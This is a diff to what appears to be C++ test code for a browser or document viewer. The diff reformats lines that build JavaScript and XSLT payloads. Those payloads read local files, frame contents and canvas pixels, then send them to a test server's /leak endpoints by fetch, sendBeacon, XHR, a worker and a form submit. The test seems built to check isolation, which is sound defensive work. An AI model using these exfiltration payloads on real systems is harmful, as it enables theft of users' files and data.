@@ -26,22 +26,26 @@ inline QByteArray script(const QString& server)
                " try{fetch(S+'/leak/fetch?d='+d,{method:'POST',body:t,mode:'no-cors'})}catch(e){}"
                " try{navigator.sendBeacon(S+'/leak/beacon',t)}catch(e){}"
                " try{var x=new XMLHttpRequest(); x.open('POST',S+'/leak/xhr'); x.send(t)}catch(e){}"
-               " window.name=found.join('|'); var a=document.getElementById('away'); if(a) a.href=S+'/landing.htm?d='+encodeURIComponent(window.name);}"
+               " window.name=found.join('|'); var a=document.getElementById('away');"
+               " if(a) a.href=S+'/landing.htm?d='+encodeURIComponent(window.name);}"
                "window.onerror=function(m){out('error '+m)};"
                "out('url '+document.URL);"
-               "function text(id){try{var d=document.getElementById(id).contentDocument; out(id+' '+d.documentElement.innerHTML);"
-               " return d}catch(e){return null}}"
-               "function read(u){try{var x=new XMLHttpRequest(); x.open('GET',u,false); x.send(); out('xhr '+x.responseText)}catch(e){}"
+               "function text(id){try{var d=document.getElementById(id).contentDocument;"
+               " out(id+' '+d.documentElement.innerHTML); return d}catch(e){return null}}"
+               "function read(u){try{var x=new XMLHttpRequest(); x.open('GET',u,false); x.send();"
+               " out('xhr '+x.responseText)}catch(e){}"
                " try{fetch(u).then(function(r){return r.text()}).then(function(t){out('fetch '+t)})}catch(e){}}"
                "window.onload=function(){"
                " ['other','obj','emb','rtf','txt','site','xml'].forEach(text);"
-               " var s=document.getElementById('site').contentDocument; if(s){var l=s.getElementsByTagName('a')[0];"
-               "  if(l){var f=document.createElement('iframe'); f.onload=function(){text('sitenote')}; f.id='sitenote'; f.src=l.href;"
-               "  document.body.appendChild(f)}}"
-               " try{var c=document.createElement('canvas'), g=c.getContext('2d'); g.drawImage(document.getElementById('pic'),0,0);"
+               " var s=document.getElementById('site').contentDocument;"
+               " if(s){var l=s.getElementsByTagName('a')[0]; if(l){var f=document.createElement('iframe');"
+               "  f.onload=function(){text('sitenote')}; f.id='sitenote'; f.src=l.href; document.body.appendChild(f)}}"
+               " try{var c=document.createElement('canvas'), g=c.getContext('2d');"
+               "  g.drawImage(document.getElementById('pic'),0,0);"
                "  var p=g.getImageData(0,0,1,1).data; out('PIXEL'+p[0]+'.'+p[1]+'.'+p[2])}catch(e){}"
                " ['Note.txt','Note.rtf','Other.htm','html/index.html'].forEach(function(n){read(n)});"
-               " try{new Worker(URL.createObjectURL(new Blob(['fetch(\"'+new URL('Note.txt',document.URL)+'\").then(function(r){return r.text()})"
+               " try{new Worker(URL.createObjectURL(new Blob(['fetch(\"'+new URL('Note.txt',document.URL)+'\")"
+               ".then(function(r){return r.text()})"
                ".then(function(t){fetch(\"'+S+'/leak/worker?d=\"+encodeURIComponent(t))})'])))}catch(e){}"
                " var f=document.getElementById('form'); f.elements[0].value=found.join('|'); f.submit();"
                "};</script>")
@@ -91,9 +95,10 @@ inline void lay(const QString& cat, const testsupport::HttpServer& server, const
                                "<!DOCTYPE r [<!NOTATION n SYSTEM \"n\"><!ENTITY e SYSTEM \"e.gif\" NDATA n>]>";
     auto transform = [&](const char* from) {
         return "<xsl:stylesheet id=\"s\" version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
-                                 "<xsl:template match=\"/\"><html><body><img src=\"" + server.url("/leak/xslt?from=").toUtf8() + from + "&amp;d=" +
-                                 "{document('Other.htm')}|{unparsed-entity-uri('e')}\"/></body></html></xsl:template>"
-                                 "</xsl:stylesheet>";
+               "<xsl:template match=\"/\"><html><body><img src=\"" +
+               server.url("/leak/xslt?from=").toUtf8() + from +
+               "&amp;d={document('Other.htm')}|{unparsed-entity-uri('e')}\"/></body></html></xsl:template>"
+               "</xsl:stylesheet>";
     };
     writeFile(cat + "x.xml", QByteArray(doctype).replace("%1", "x.xsl") + "<r/>");
     writeFile(cat + "x.xsl", transform("x"));
